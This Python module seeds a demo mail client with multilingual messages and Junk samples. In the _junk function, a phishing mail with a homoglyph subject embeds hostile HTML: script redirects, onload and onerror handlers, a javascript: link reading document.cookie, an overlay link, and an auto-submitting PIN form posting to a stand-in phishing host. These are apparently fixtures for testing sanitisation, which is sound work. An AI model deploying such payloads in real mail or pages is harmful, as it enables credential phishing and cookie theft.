# ruff: noqa: RUF001 - real mail is written in many scripts
"""Mail in other scripts and charsets, and what lies in Junk."""

from app.demo.mail.compose import Person, alternative, html, text
from app.demo.mail.desk import ANSWERED, FLAGGED, READ, UNREAD, Desk
from app.demo.mail.people import LAYLA, MINSEO, MOTHER, YUQING

_PRINCE = Person("Dr. Prince Abiodun", "abiodun.office@fastpost.example")
_BANK = Person("Spree­bank Sicherheit", "sicherheit@spree-bank.login.example")
_PILLS = Person("C.A.N.A.D.I.A.N", "deals@rxrxrx.example")


def add(desk: Desk) -> None:
    """File it."""
    _chinese(desk)
    _arabic(desk)
    _cyrillic_and_korean(desk)
    _junk(desk)


def _chinese(desk: Desk) -> None:
    desk.receives(
        YUQING,
        "关于手工宣纸的报价与样品(第二次)",
        "Ana 您好:\n\n附上净皮单宣的新报价。四尺(69 × 138 厘米)每刀 100 张,人民币 680 元,\n"
        "十刀以上九五折。样品已由顺风寄出,大约五天到柏林。\n\n苔藓封面的图真美,我们全厂都看了。\n\n祝好\n林雨晴\n青竹纸业\n",
        desk.ago(hours=16),
        "chinese",
        flags=UNREAD,
    )
    desk.receives(
        YUQING,
        "样品单号",
        text("Ana 您好:\n\n单号 SF 1088 2231 907。请注意查收。\n\n林雨晴\n", charset="gb2312", encoding="base64"),
        desk.ago(days=2, hours=16),
        "chinese",
        "gb2312",
        charset="gb2312",
        flags=READ,
    )


def _arabic(desk: Desk) -> None:
    desk.receives(
        LAYLA,
        "دعوة: معرض الخط العربي «حبر وحجر»",
        alternative(
            "عزيزتي آنا،\n\nيسعدنا أن ندعوك إلى افتتاح معرض الخط العربي «حبر وحجر» مساء الخميس\nالساعة 19:00 في دار "
            "خط، "
            "الطابق 2. سيكون هناك شاي بالنعناع.\n\nمع أطيب التحيات،\nليلى حدّاد\n",
            '<html dir="rtl" lang="ar"><body style="font-family:serif;font-size:18px"><p>عزيزتي آنا،</p><p>يسعدنا أن '
            "ندعوك "
            "إلى افتتاح معرض الخط العربي <b>«حبر وحجر»</b> مساء الخميس الساعة 19:00 في دار خط، الطابق 2. سيكون هناك "
            "شاي "
            "بالنعناع.</p><p>مع أطيب التحيات،<br>ليلى حدّاد</p></body></html>\n",
        ),
        desk.ago(days=1, hours=3),
        "arabic",
        "html",
        flags=FLAGGED,
    )


def _cyrillic_and_korean(desk: Desk) -> None:
    desk.receives(
        MOTHER,
        "Када долазиш? 😘",
        "Ана, сине,\n\nтетка Рада пита да ли долазиш за славу или опет имаш „рок“.\nПослала сам ајвар по Марку, шест "
        "тегли. "
        "Немој да га делиш целој канцеларији.\n\nЉуби те мама\n",
        desk.ago(days=2, hours=12),
        "cyrillic",
        "emoji",
        flags=ANSWERED,
    )
    desk.receives(
        MINSEO,
        "메뉴판 디자인 문의드립니다",
        text(
            "안녕하세요, 아나 님.\n\n성수동에 새 베이커리를 열게 되어 메뉴판 디자인을 부탁드리고 싶습니다.\n"
            "일정과 견적을 알려 주세요.\n\n김민서 드림\n",
            charset="euc-kr",
            encoding="8bit",
        ),
        desk.ago(days=7, hours=5),
        "korean",
        charset="euc-kr",
        flags=READ,
    )


def _junk(desk: Desk) -> None:
    desk.receives(
        _BANK,
        "Ihr Κоnto wurde eingeschränkt!",  # the first letters are Greek and Cyrillic
        html(
            '<html><body onload="alert(1)"><script>document.location="https://spree-bank.login.example/"</script>'
            '<form action="https://spree-bank.login.example/pin" method="post"><p>Bitte bestätigen Sie Ihre PIN:</p>'
            '<input name="pin" autofocus onfocus="this.form.submit()"><button>Bestätigen</button></form>'
            '<p><a href="javascript:alert(document.cookie)">spreebank.example</a></p>'
            '<div style="position:fixed;top:0;left:0;width:100%;height:100%"><a '
            'href="https://spree-bank.login.example/x">'
            '&nbsp;</a></div><img src="x" onerror="alert(2)"><iframe src="https://spree-bank.login.example/f"></iframe>'
            "</body></html>\n"
        ),
        desk.ago(hours=33),
        "phishing",
        "html-only",
        mailbox="Junk",
        flags=UNREAD,
    )
    desk.receives(
        _PRINCE,
        "RE: YOUR INHERITANCE FUND OF USD 14.5M",
        "ATTENTION BENEFICIARY,\n\nI am Dr. Prince Abiodun and I write to you in respect of the fund. Kindly send "
        "your\n"
        "full name, your age and a recent photograph of your stapler.\n",
        desk.ago(days=2, hours=20),
        "junk",
        mailbox="Junk",
        flags=UNREAD,
    )
    desk.receives(
        _PILLS,
        "V1t4m1ns f0r y0ur m0nstera",
        html("<p><font color=#ffffff size=1>printing press moss contract invoice</font></p><h1>-80%</h1>\n"),
        desk.ago(days=5, hours=17),
        "junk",
        mailbox="Junk",
    )
